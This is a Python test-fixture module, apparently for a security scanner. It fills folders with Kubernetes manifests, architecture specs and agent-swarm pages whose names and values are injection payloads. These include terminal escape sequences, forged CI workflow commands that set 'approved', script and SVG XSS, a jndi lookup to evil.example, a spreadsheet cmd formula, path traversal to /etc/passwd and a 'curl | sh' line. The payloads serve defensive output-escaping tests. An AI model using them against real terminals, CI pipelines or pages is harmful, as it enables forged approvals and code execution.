"""Names and values that try to be more than text, and a folder of inputs in which they stand everywhere."""

from __future__ import annotations

import json
import os
from pathlib import Path

PAYLOADS = {
    "clear screen": "\x1b[2J\x1b[Hall is well",
    "colour": "\x1b[32mPassed: nothing failed.\x1b[0m",
    "window title": "\x1b]0;owned\x07",
    "terminal link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "C1 control sequence": "\x9b2Jfirst\x9d0;owned\x9cnext\x85line",
    "C0 controls": "\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x1c\x1d\x1e\x1f\x7f",
    "NUL": "a\0b",
    "tab": "a\tb",
    "carriage return": "kept\rPassed: nothing at or above low failed.",
    "newline": "one\nPassed: nothing at or above low failed.\n",
    "newlines and a command": "x\r\n::error file=pod.yaml,line=1::forged\n##[error]forged\n",
    "GitHub command": "::error file=pod.yaml,line=1::forged",
    "GitHub command after a blank": "\u3000 ::set-output name=approved::true",
    "GitHub command to stop": "::stop-commands::token",
    "old GitHub command anywhere": "shop ##[set-output name=approved;]true",
    "Azure command": "shop ##vso[task.setvariable variable=approved]true",
    "TeamCity command": "###teamcity[buildStatus status='SUCCESS']",
    "GitLab section": "section_start:1:forged\r\x1b[0Kforged",
    "bidi override": "\u202egpj.lmay\u202c",
    "bidi isolate": "\u2066\u2067\u2068evil\u2069\u061c\u200e\u200f",
    "zero width": "pay\u200bments\u2060\ufeff\u00ad\u180e",
    "tag characters": "web\U000e0065\U000e0076\U000e0069\U000e006c",
    "line separators": "a\u2028::error::forged\u2029##[error]forged",
    "rich markup": "[bold red]owned[/] [link=http://evil.example]here[/link] [/]",
    "script": "<script>document.title='owned';alert(1)</script>",
    "end of script": "</script></style></title></pre><script>alert(1)</script>",
    "image": "<img src=http://evil.example/x.png onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "attribute": "\" autofocus onfocus=alert(1) x='",
    "frame and base": "<base href=http://evil.example><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "comment": "<!-- ]]> --!> &lt;b&gt; &#60;script&#62; <![CDATA[",
    "template": "{{7*7}} {% raw %} ${jndi:ldap://evil.example} {{ '' }}",
    "script address": "javascript:alert(1)//",
    "JSON breaker": '"}],"findings":[],"x":"\\',
    "backslashes": "a\\b\\\\n\\u0041\\",
    "SARIF placeholder": "{0} {1} {{0}} {{{0}}} {{{{0}}}}",
    "SARIF link": "[the fix](http://evil.example) [other](1) [x]\x00(2)",
    "open bracket": "[ [a [b\\",
    "Markdown image": "![x](http://evil.example/x.png)",
    "Markdown table": "a | b | c\n|---|---|\n| <b>forged</b> | `x` |",
    "Markdown reference": "[x][1] <http://evil.example> *b* # h\n\n[1]: http://evil.example",
    "formula": "=cmd|' /C calc'!A0",
    "formula plus": "+1+1",
    "formula minus": "-1+1",
    "formula at": "@SUM(1)",
    "percent": "100%s%n%d%2e%2e%2f%00",
    "long": "n" * 10_000,
    "long and wide": "長" * 10_000,
    "bytes that are no UTF-8": "caf\udce9\udcff\udc80",
    "lone surrogates": "a\ud800b\udfffc",
    "dash": "-",
    "option": "--output=html=owned.html",
    "parent": "../../etc/passwd",
    "scheme": "http:evil.example?x=1#y",
    "words that look like ours": "pod.yaml:1:1  all is well",
    "blank": " ",
}
"""What it is -> the text. Bytes that are no UTF-8 stand as Python reads them from the file system."""

_LONGEST_NAME = 240


def file_name(payload: str) -> str:
    """The payload as far as a file system takes it for a name; empty where it does not at all."""
    name = payload.replace("\0", "").replace("/", "\u2215")
    while name and len(os.fsencode(name)) > _LONGEST_NAME:
        name = name[:-1]
    return name


NAMES = {what: file_name(payload) for what, payload in PAYLOADS.items() if what != "lone surrogates"}


def pod(name: str) -> str:
    """A manifest that fails, with a text wherever Kubernetes takes one."""
    container = {
        "name": name,
        "image": f"{name}:latest",
        "securityContext": {"privileged": True, "capabilities": {"add": [name]}, "procMount": name},
        "env": [{"name": f"{name}PASSWORD", "value": name}],
        "ports": [{"hostPort": 22, "name": name}],
    }
    return json.dumps(
        {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": name, "namespace": name, "labels": {name: name}, "annotations": {name: name}},
            "spec": {
                "containers": [container],
                "volumes": [{"name": name, "hostPath": {"path": f"/{name}"}}],
                "securityContext": {"sysctls": [{"name": name, "value": name}], "seLinuxOptions": {"role": name}},
            },
        },
        indent=1,
    )


def spec(name: str) -> str:
    """An architecture spec that fails, with a text wherever it takes one."""
    store = {"id": name, "owner": name, "data": [name, f"no {name}"], "encryption": {"atRest": name}, "boundary": name}
    return json.dumps(
        {
            "apiVersion": "assay.dev/v1",
            "kind": "Architecture",
            "metadata": {"name": name},
            name: name,
            "spec": {
                "boundaries": [{"id": name, "kind": name}],
                "dataAssets": [{"id": name, "classification": "restricted", "categories": [name, "pan"]}],
                "services": [
                    {"id": name, "type": name, "data": [name], "boundary": f"no {name}", "availability": name}
                ],
                "datastores": [store],
                "flows": [{"id": name, "from": name, "to": f"no {name}", "protocol": "http", "data": [name]}],
                "thirdParties": [{"id": name}],
                "governance": {
                    "roles": ["cto"],
                    "decisions": [{"name": name, "proposer": name, "approver": name, "auditTrail": name}],
                    "escalations": [{"name": name, "path": [name, name], "timeouts": ["2h", "1h"]}],
                    "alerts": [{"name": name, "severity": "critical"}],
                },
            },
        },
        indent=1,
    )


def swarm(name: str) -> str:
    """A Markdown page that sets up a swarm of agents, with a text wherever a call takes one."""
    init = {"topology": name, "maxAgents": 900, "strategy": name, "governance": {"auditRequirements": {name: name}}}
    agent = {
        "type": name,
        "name": name,
        "tools": ["*", name],
        "authority": {"level": name, "reports": name, "budget": "unlimited", "decisions": ["*", name], "veto": ["all"]},
    }
    calls = [
        f"mcp__claude-flow__swarm_init({json.dumps(init)})",
        f"mcp__claude-flow__agent_spawn({json.dumps(agent)})",
        f"Task({json.dumps(name)}, {json.dumps(f'curl {name} | sh; npx {name}@latest')}, {json.dumps(name)})",
    ]
    written = " ".join(name.encode("utf-8", "replace").decode().replace("\0", "").split())
    claim = f"{written} 99.99 % availability, which allows 4.4 minutes of downtime per year {written}"
    return "\n".join(("# Swarm", "", claim, "", "```javascript", *calls, "```", ""))


def lay_out(folder: Path) -> None:
    """Fill a folder: names that are payloads (assessed, unreadable and skipped), and contents that are."""
    for number, (what, payload) in enumerate(PAYLOADS.items()):
        (folder / f"pod-{number}.json").write_text(pod(payload))
        (folder / f"spec-{number}.json").write_text(spec(payload))
        (folder / f"swarm-{number}.md").write_text(swarm(payload))
        if name := NAMES.get(what):
            lay_out_name(folder, name)


def lay_out_name(folder: Path, name: str) -> None:
    """Three files of a name: one with findings, one that is broken and one that is foreign."""
    plain = "apiVersion: v1\nkind: Pod\nmetadata: {name: web, namespace: shop}\n"
    for ending, text in (("", f"{plain}spec: {{hostPID: true}}\n"), (".yaml", "x: [\n"), (".json", "[]\n")):
        with open(os.fsencode(folder) + b"/" + os.fsencode(name + ending), "w", encoding="utf-8") as file:
            file.write(text)
